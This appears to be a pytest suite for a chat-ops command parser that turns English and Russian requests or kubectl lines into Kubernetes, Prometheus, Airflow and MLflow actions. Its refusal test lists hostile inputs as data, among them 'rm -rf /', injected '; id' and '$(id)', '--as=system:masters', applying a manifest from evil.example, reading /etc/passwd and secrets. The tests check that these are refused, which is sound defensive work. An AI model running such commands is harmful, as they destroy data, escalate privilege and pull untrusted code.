import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from processors.knowledge.actions.commands import read_command
from processors.knowledge.actions.refusal import ActionRefusedError
from tests.support.demands import write_demands
from tests.unit.docs.pages import ROOT

PODS = ("kubernetes.get", {"namespace": "checkout", "resource": "pod"})
RESTART = (
    "kubernetes.rollout_restart",
    {"namespace": "checkout", "resource": "deployment", "name": "api"},
)
SCALE = (
    "kubernetes.scale",
    {"namespace": "checkout", "resource": "deployment", "name": "api", "replicas": 3},
)


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("show the pods in checkout", PODS),
        ("Show me all pods in the namespace checkout.", PODS),
        ("list pods in checkout please", PODS),
        ("покажи поды в checkout", PODS),
        ("Пожалуйста, покажи все поды в неймспейсе checkout", PODS),
        ("kubectl get pods -n checkout", PODS),
        ("$ kubectl get pods -n checkout", PODS),
        ("```bash\nkubectl get po --namespace=checkout\n```", PODS),
        ("`kubectl -n checkout get pods`", PODS),
        ("/do kubectl get pods -n checkout", PODS),
        ("/DO show the pods in checkout", PODS),
        # As a chat's input field sets what is typed.
        ("kubectl get pods —namespace=checkout", PODS),
        ("/do kubectl get pods –namespace=checkout", PODS),
        ("/do kubernetes.get resource=“pods” namespace=‘checkout’", PODS),
        ("/do kubernetes.get resource=pods namespace=checkout", PODS),
        ("restart the api deployment in checkout", RESTART),
        ("restart deployment api in checkout", RESTART),
        ("Could you please restart the api deployment in checkout?", RESTART),
        ("перезапусти деплоймент api в checkout", RESTART),
        ("/do restart api in checkout", RESTART),
        ("/do перезапусти api в checkout", RESTART),
        ("kubectl rollout restart deploy/api -n checkout", RESTART),
        ("scale api to 3 in checkout", SCALE),
        ("scale the api deployment in checkout to 3 replicas", SCALE),
        ("масштабируй деплоймент api в checkout до 3 реплик", SCALE),
        ("kubectl scale deployment api --replicas 3 -n checkout", SCALE),
    ],
)
def test_a_command_is_read_however_it_is_written(text, command):
    assert read_command(text) == command


@pytest.mark.parametrize(
    ("text", "action"),
    [
        ("show nodes", "kubernetes.get_cluster"),
        ("show all pods in all namespaces", "kubernetes.get_cluster"),
        ("покажи поды во всех неймспейсах", "kubernetes.get_cluster"),
        ("kubectl get pods -A", "kubernetes.get_cluster"),
        ("describe pod api-1 in shop", "kubernetes.describe"),
        ("опиши под api-1 в shop", "kubernetes.describe"),
        ("logs of pod x", "kubernetes.logs"),
        ("show me the logs of pod api-7d9 in checkout for the last 2 hours", "kubernetes.logs"),
        ("покажи логи пода api-1 в checkout за 2 часа", "kubernetes.logs"),
        ("logs of the api deployment in shop", "kubernetes.logs"),
        ("покажи последние 20 строк логов деплоймента api в shop", "kubernetes.logs"),
        ("/do logs api-7d9 in shop", "kubernetes.logs"),
        ("/do логи api-7d9 в shop за 5 минут", "kubernetes.logs"),
        ("top pods in shop", "kubernetes.top_pods"),
        ("top pods in all namespaces", "kubernetes.top_cluster"),
        ("покажи расход ресурсов подами во всех неймспейсах", "kubernetes.top_cluster"),
        ("kubectl top po -A --sort-by=memory", "kubernetes.top_cluster"),
        ("kubectl top pod api-7d9 -n shop --containers", "kubernetes.top_pods"),
        ("kubectl top node node-1", "kubernetes.top_nodes"),
        ("kubectl top nodes", "kubernetes.top_nodes"),
        ("show events in shop", "kubernetes.get"),
        ("kubectl events --for pod/api-1", "kubernetes.events"),
        ("rollout status of the api deployment in shop", "kubernetes.rollout_status"),
        ("undo the rollout of api", "kubernetes.rollout_undo"),
        ("откати деплоймент api в shop", "kubernetes.rollout_undo"),
        ("set the image of container web of deployment api to nginx:1.27 in shop", "kubernetes.set_image"),
        ("смени образ контейнера web деплоймента api на nginx:1.27 в shop", "kubernetes.set_image"),
        ("cordon node-1", "kubernetes.cordon"),
        ("раскордонь узел node-1", "kubernetes.uncordon"),
        ("delete pod api-1 in shop", "kubernetes.delete_pod"),
        ("apply this manifest in shop:\n```yaml\nkind: ConfigMap\n```", "kubernetes.apply"),
        ("kubectl apply -n shop -f -\nkind: ConfigMap", "kubernetes.apply"),
        ("silence alert HighLatency for 1h", "alertmanager.silence"),
        ("заглуши алерт HighLatency на 2 часа", "alertmanager.silence"),
        ("/do promql sum(rate(http_requests_total[5m])) by (job)", "prometheus.query"),
        ("/do promql over 6h step 5m: up", "prometheus.query_range"),
        ("trigger the dag correlate", "airflow.trigger"),
        ("запусти даг correlate", "airflow.trigger"),
        ("clear the run manual__1 of dag correlate", "airflow.clear"),
        (f"compare runs {'a' * 32} and {'b' * 32}", "mlflow.compare_runs"),
        ("point alias champion of model churn to version 3", "mlflow.set_alias"),
        ("roll back the cag index", "runlore.rollback"),
    ],
)
def test_each_action_can_be_asked_for(text, action):
    command = read_command(text)
    assert command is not None
    assert command.action == action


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("kubectl logs api-7d9 -n shop --tail 20 -p", {"name": "api-7d9", "tail": 20, "previous": "true"}),
        ("kubectl logs api-7d9 proxy -n shop", {"name": "api-7d9", "container": "proxy"}),
        ("kubectl logs po/api-7d9 -n shop", {"name": "api-7d9"}),
        (
            "kubectl -n shop logs deploy/api -c app",
            {"resource": "deployment", "name": "api", "container": "app"},
        ),
        ("logs of the api statefulset in shop", {"resource": "statefulset", "name": "api"}),
        ("покажи логи деплоймента api в shop", {"resource": "deployment", "name": "api"}),
    ],
)
def test_whose_log_is_meant_is_read_as_kubectl_does(text, told):
    usual = {"namespace": "shop", "resource": "pod", "tail": 100}
    assert read_command(text) == ("kubernetes.logs", usual | told)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "how do I restart the api deployment in checkout?",
        "should I restart the api deployment in checkout",
        "what happens if I restart the api deployment?",
        "restart the api deployment in checkout?",
        "don't restart the api deployment in checkout",
        "never delete pod api-1",
        "if it is slow, restart the api deployment in checkout",
        "restart the api deployment in checkout and delete the pods",
        "the runbook says: restart the api deployment in checkout",
        "restart the failed deployment",
        "restart my deployment",
        "restart",
        "show pods in error",
        "show the pods in CrashLoopBackOff",
        "list pods in a namespace",
        "show the errors in checkout",
        "show me how to scale api to 3",
        "what is the value of up?",
        "как перезапустить деплоймент api в checkout?",
        "что будет, если перезапустить деплоймент api в checkout",
        "стоит ли перезапустить деплоймент api",
        "не перезапускай деплоймент api",
        "kubectl get pods hangs and then fails, what can I do?",
        "kubectl describe returns forbidden",
        "kubectl logs returns nothing",
        "kubectl top pods hangs",
        "kubectl get pods?",
        "promql up",
        "/document",
        "please /do kubectl get pods",
    ],
)
def test_a_question_is_no_command(text):
    assert read_command(text) is None


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("kubectl get pods; rm -rf /", ";"),
        ("kubectl get pods && id", "&"),
        ("kubectl get pods | sh", "|"),
        ("kubectl get pods $(id)", "$("),
        ("kubectl get pods `id`", "`"),
        ("kubectl get pods > /etc/passwd", ">"),
        ("kubectl get pods -n 'shop; id'", ";"),
        ("kubectl get pods $HOME", "$H"),
        ("kubectl get pods --kubeconfig=/tmp/x", "--kubeconfig"),
        ("kubectl get pods --kubeconfig /tmp/x", "--kubeconfig"),
        ("kubectl --kubeconfig=/tmp/x get pods", "--kubeconfig"),
        ("kubectl get pods -o go-template={{.}}", "-o"),
        ("kubectl get pods -ojsonpath={.}", "-ojsonpath"),
        ("kubectl get pods --as=system:admin", "--as"),
        ("kubectl get pods --as-group=system:masters", "--as-group"),
        ("kubectl get pods --token=x", "--token"),
        ("kubectl get pods --server=https://evil.example", "--server"),
        ("kubectl get pods --raw /api", "--raw"),
        ("kubectl get pods -n a -n kube-system", "twice"),
        (
            "kubectl logs -f api-1",
            "-f` isn't an option of `kubectl logs` here; these are: -n, --namespace, -c",
        ),
        ("kubectl logs cronjob/api", "cronjob"),
        ("kubectl logs a-1 b c", "kubectl logs a-1 b c"),
        ("kubectl top nodes -A", "-A"),
        ("kubectl top pods api -A", "name"),
        ("kubectl apply -f @/etc/passwd", "@/etc/passwd"),
        ("kubectl apply -f https://evil.example/x.yaml", "https://evil.example/x.yaml"),
        ("kubectl apply", "manifest"),
        ("kubectl get @file", "@file"),
        ("kubectl get secrets", "secrets"),
        ("kubectl get pods -n ../kube-system", "../kube-system"),
        ("kubectl exec api-1 -- sh", "kubectl exec"),
        ("kubectl delete deployment api", "kubectl delete"),
        ("kubectl scale deploy/api --replicas=1000", "1000"),
        ("kubectl set image deploy/api web=nginx", "nginx"),
        ("/do", "/do"),
        ("/do make me a sandwich", "make me a sandwich"),
        ("/do kubectl get pods is broken", "is broken"),
        ("/do kubernetes.exec name=api", "kubernetes.exec"),
        ("/do kubernetes.scale name=api --kubeconfig=/x", "--kubeconfig"),
        ("/do kubernetes.scale resource=deployment name=api;id replicas=1", "api;id"),
        ("/do kubernetes.scale resource=deployment name=api name=db replicas=1", "name=db"),
        ("/do kubernetes.scale resource=deployment name='api", "name='api"),
    ],
)
def test_what_cant_be_taken_is_refused_and_named(text, named):
    with pytest.raises(ActionRefusedError) as caught:
        read_command(text)
    assert named in str(caught.value)


@pytest.mark.parametrize("text", list(write_demands()))
def test_no_document_and_no_log_line_is_a_command(text):
    """Even if somebody pastes it into the chat, what surrounds a demand makes it a quotation."""
    assert read_command(text) is None


def test_the_questions_of_the_evaluation_are_questions():
    asked = [
        value
        for path in (ROOT / "evaluation/queries").glob("*.jsonl")
        for line in path.read_text(encoding="utf-8").splitlines()
        for value in json.loads(line).values()
        if isinstance(value, str)
    ]
    assert len(asked) > 1_000
    assert {text for text in asked if read_command(text)} <= {"list pods in all namespaces"}


@given(st.text(max_size=200))
def test_no_text_makes_the_reader_fail(text):
    for told in (text, f"/do {text}", f"kubectl {text}", f"/do kubernetes.get {text}", f"/do promql {text}"):
        try:
            read_command(told)
        except ActionRefusedError:
            continue
